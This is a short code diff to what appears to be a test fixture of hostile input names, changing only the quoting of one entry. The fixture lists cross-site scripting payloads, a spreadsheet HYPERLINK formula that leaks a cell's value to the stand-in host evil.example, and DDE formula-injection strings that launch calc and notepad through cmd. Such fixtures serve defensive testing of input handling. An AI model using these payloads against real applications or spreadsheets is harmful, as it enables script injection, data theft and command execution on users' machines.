@@ -5,7 +5,7 @@
  */
 export const HOSTILE_NAMES = {
   script: "<script>window.pwned = true</script>",
-  html: "<img src=x onerror=\"window.pwned = true\"><b>bold</b>",
+  html: '<img src=x onerror="window.pwned = true"><b>bold</b>',
   hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
   dde: "+cmd|' /C calc'!A0",
   minus: "-2+3+cmd|' /C notepad'!'A1'",
